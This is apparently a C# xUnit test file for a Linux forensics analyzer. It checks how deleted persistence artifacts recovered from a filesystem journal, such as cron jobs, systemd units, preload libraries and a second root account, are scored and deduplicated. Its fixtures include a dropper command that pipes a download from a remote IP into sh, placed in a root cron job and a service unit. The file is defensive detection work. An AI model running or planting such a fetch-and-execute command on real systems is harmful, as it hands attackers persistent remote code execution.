using Forensics.Analyzer.Evidence;
using Forensics.Analyzer.Risk;
using Forensics.Parsers;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Analyzer.Tests.Detectors;

/// <summary>What deleted persistence may say: at most what it would say if it were there, less one level, and nothing twice.</summary>
public sealed class DeletedFindingsTests
{
    private const string Dropper = "curl -fsSL http://203.0.113.9/x | sh";

    private static Case Evil(string path = "/etc/cron.d/evil") => Case.Debian().SystemCron(path, "* * * * *", "root", Dropper);

    [Fact]
    public void One_level_lower_marked_and_without_clean_up()
    {
        Finding live = Assert.Single(Evil().Judge());
        Finding gone = Assert.Single(Case.Debian().Deleted(Evil()).JudgeDeleted());
        Assert.Equal((Severity.Critical, Severity.High), (live.Severity, gone.Severity));
        Assert.Equal((live.Rule.Id, live.Evidence, live.Location.Line), (gone.Rule.Id, gone.Evidence, gone.Location.Line));
        Assert.NotEmpty(live.Remediation);
        Assert.Empty(gone.Remediation);
        Assert.Contains("recovered from an older state of its inode in the journal (copy 0), content intact", gone.Message, StringComparison.Ordinal);
        Assert.Equal((Allocation.Deleted, Certainty.Intact), (gone.Location.Allocation, gone.Location.Certainty));
    }

    [Fact]
    public void An_older_copy_of_what_is_still_there_is_not_said_again() => Assert.Empty(Evil().Deleted(Evil()).JudgeDeleted());

    [Fact]
    public void Renamed_files_with_the_same_content_are_not_said_again()
    {
        // The hash ties the two paths together.
        Case live = Evil("/etc/cron.d/b").File("/etc/cron.d/b", ContentKind.Text);
        Assert.Empty(live.Deleted(Evil("/etc/cron.d/a").File("/etc/cron.d/a", ContentKind.Text)).JudgeDeleted());
    }

    [Fact]
    public void Of_several_copies_the_best_speaks()
    {
        Finding finding = Assert.Single(Case.Debian().Deleted(Evil(), Certainty.PossiblyOverwritten, 3).Deleted(Evil(), Certainty.Intact, 4).JudgeDeleted());
        Assert.Equal((Certainty.Intact, 4), (finding.Location.Certainty, finding.Location.JournalCopy));
    }

    [Fact]
    public void A_deleted_account_is_no_account()
    {
        // A key that opens root and a deleted account's name must not be joined.
        Case host = Case.Debian().User("root", 0).Deleted(Case.Debian().User("toor", 0, home: "/home/toor"));
        Assert.Empty(host.Judge());
        Finding finding = Assert.Single(host.JudgeDeleted());
        Assert.Equal(("L-ACC-UID0.second-root", Severity.High), (finding.Rule.Id, finding.Severity));
    }

    [Fact]
    public void A_deleted_preload_file_is_high_and_a_deleted_unit_needs_no_link()
    {
        Assert.Equal(Severity.High, Assert.Single(Case.Debian().Deleted(Case.Debian().Preload("/usr/local/lib/gone.so")).JudgeDeleted()).Severity);
        Case unit = Case.Debian().Unit("/etc/systemd/system/evil.service", "evil.service", "/bin/sh -c '" + Dropper + "'").Exists("/bin/sh");
        Assert.Equal(Severity.High, Assert.Single(unit.Judge()).Severity);
        Finding gone = Assert.Single(Case.Debian().Exists("/bin/sh").Deleted(unit).JudgeDeleted());
        Assert.Equal(Severity.High, gone.Severity);
        Assert.DoesNotContain("would not run", gone.Message, StringComparison.Ordinal);
    }

    /// <summary>Package managers and editors delete such files every day.</summary>
    [Fact]
    public void Ordinary_deleted_files_are_silent() => Assert.Empty(Case.Debian().User("root", 0).Deleted(Case.Debian()
        .SystemCron("/etc/cron.d/sysstat.dpkg-new", "5-55/10 * * * *", "root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1")
        .SystemCron("/etc/cron.d/backup~", "0 3 * * *", "root", "/usr/local/sbin/backup")
        .UserCron("tmp.Xq3YzA", "*/5 * * * *", "wget -q -O /dev/null https://shop.example/wp-cron.php")
        .User("root", 0).User("sync", 4, "/bin/sync", "/bin", gid: 65534).User("alice", 1000).User("bob", 1001, previous: true)
        .Unit("/usr/lib/systemd/system/ssh.service", "ssh.service", "/usr/sbin/sshd -D", rank: 8)
        .Enable("ssh.service", "/usr/lib/systemd/system/ssh.service")
        .Script("/etc/init.d/cron", StartupPlace.InitScript, ["start-stop-daemon --start --quiet --exec /usr/sbin/cron"], provides: "cron")
        .Key("/root/.ssh/authorized_keys", "admin@example.org")
        .File("/etc/cron.d/x", ContentKind.Text)).JudgeDeleted());
}
